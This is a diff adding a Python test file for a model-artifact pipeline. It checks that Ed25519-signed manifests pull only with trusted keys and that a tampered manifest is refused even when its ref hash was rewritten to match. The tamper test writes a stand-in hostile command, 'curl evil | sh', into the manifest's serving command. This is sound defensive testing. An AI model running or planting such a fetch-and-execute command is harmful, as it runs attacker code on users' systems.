@@ -1,0 +1,97 @@
+"""Signed manifests: a publisher with an Ed25519 key signs every manifest before its refs; a puller given the
+public key refuses what is unsigned, signed by another key, or changed after signing, even when whoever
+changed it also fixed the sha256 in the ref (damage checks alone cannot catch that)."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import shutil
+from pathlib import Path
+
+import pytest
+from cryptography.hazmat.primitives import serialization
+from cryptography.hazmat.primitives.asymmetric import ed25519
+
+from factories import write_test_config
+from pipelines.build import build_and_publish
+from pipelines.cli import main
+from pipelines.config import Config
+from pipelines.errors import ConfigError, IntegrityError
+from pipelines.pull import pull
+from pipelines.signing import signature_key
+
+REPO = Path.cwd()
+MODEL, CPU = "test-org/signed", "llm-llamacpp-cpu"
+
+
+def _keypair(d: Path, name: str) -> tuple[Path, Path]:
+    key = ed25519.Ed25519PrivateKey.generate()
+    priv, pub = d / f"{name}.pem", d / f"{name}.pub"
+    priv.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
+                                       serialization.NoEncryption()))
+    pub.write_bytes(key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo))
+    return priv, pub
+
+
+@pytest.fixture(scope="module")
+def signed(tiny_llama, tmp_path_factory):
+    root = tmp_path_factory.mktemp("signed")
+    priv, pub = _keypair(root, "publisher")
+    _, other = _keypair(root, "other")
+    config = Config.load(write_test_config(root / "cfg", REPO))
+    with pytest.MonkeyPatch.context() as mp:
+        mp.setenv("HIVE_AOT_SIGNING_KEY", str(priv))
+        res = build_and_publish(str(tiny_llama), "gguf-f16", config, str(root / "store"), MODEL)
+    assert res.state == "published"
+    unsigned = build_and_publish(str(tiny_llama), "gguf-q8_0", config, str(root / "store"), MODEL)  # no key
+    return {"store": root / "store", "pub": pub, "other": other, "build": res, "unsigned": unsigned}
+
+
+def test_a_signed_manifest_pulls_with_its_key(signed, tmp_path):
+    res = pull(MODEL, CPU, tmp_path / "m", recipe="gguf-f16", store_uri=str(signed["store"]), trusted=str(signed["pub"]))
+    assert res["signed_by"] and res["build_id"] == signed["build"].build_id
+    assert pull(MODEL, CPU, tmp_path / "n", recipe="gguf-f16", store_uri=str(signed["store"]))["signed_by"] is None
+
+
+def test_unsigned_or_foreign_signatures_are_refused(signed, tmp_path):
+    with pytest.raises(IntegrityError, match="is not signed, and trusted keys are required"):
+        pull(MODEL, CPU, tmp_path / "a", recipe="gguf-q8_0", store_uri=str(signed["store"]), trusted=str(signed["pub"]))
+    with pytest.raises(IntegrityError, match="which is not among the trusted keys"):
+        pull(MODEL, CPU, tmp_path / "b", recipe="gguf-f16", store_uri=str(signed["store"]), trusted=str(signed["other"]))
+    # several trusted keys: one of them signed it
+    both = f"{signed['other']},{signed['pub']}"
+    assert pull(MODEL, CPU, tmp_path / "c", recipe="gguf-f16", store_uri=str(signed["store"]), trusted=both)["signed_by"]
+    assert not any((tmp_path / d).exists() for d in ("a", "b"))
+
+
+def test_tampering_that_fixes_the_ref_sha_is_caught_by_the_signature(signed, tmp_path, capsys):
+    store = tmp_path / "store"
+    shutil.copytree(signed["store"], store)
+    b = signed["build"]
+    mpath = next(store.glob(f"manifests/*/gguf-f16/{b.build_id}.json"))
+    doc = json.loads(mpath.read_text())
+    doc["serving"][CPU]["command"] = ["sh", "-c", "curl evil | sh"]  # what an attacker would change
+    raw = (json.dumps(doc, sort_keys=True, separators=(",", ":")) + "\n").encode()
+    mpath.write_bytes(raw)
+    ref = next(store.glob("refs/*/gguf-f16/latest"))
+    r = json.loads(ref.read_text())
+    r["manifest_sha256"] = hashlib.sha256(raw).hexdigest()
+    ref.write_text(json.dumps(r))
+    # without keys only damage is checked: the consistent rewrite passes (the reason to sign)
+    assert pull(MODEL, CPU, tmp_path / "unverified", recipe="gguf-f16", store_uri=str(store))["serve"].startswith("sh ")
+    capsys.readouterr()
+    assert main(["pull", MODEL, "--target", CPU, "--recipe", "gguf-f16", "--dest", str(tmp_path / "v"),
+                 "--store", str(store), "--trusted-keys", str(signed["pub"])]) == 1
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and "its signature does not match its bytes (tampered with)" in err
+    assert not (tmp_path / "v").exists()
+    assert (store / signature_key(str(mpath.relative_to(store)))).is_file()
+
+
+def test_a_bad_key_file_is_one_line_without_its_content(signed, tmp_path):
+    bad = tmp_path / "bad.pub"
+    bad.write_text("-----BEGIN PUBLIC KEY-----\nc2VjcmV0LXN0dWZm\n-----END PUBLIC KEY-----\n")
+    with pytest.raises(ConfigError) as ei:
+        pull(MODEL, CPU, tmp_path / "x", store_uri=str(signed["store"]), trusted=str(bad))
+    assert "is not a PEM public key" in str(ei.value) and "c2VjcmV0" not in str(ei.value) and "\n" not in str(ei.value)
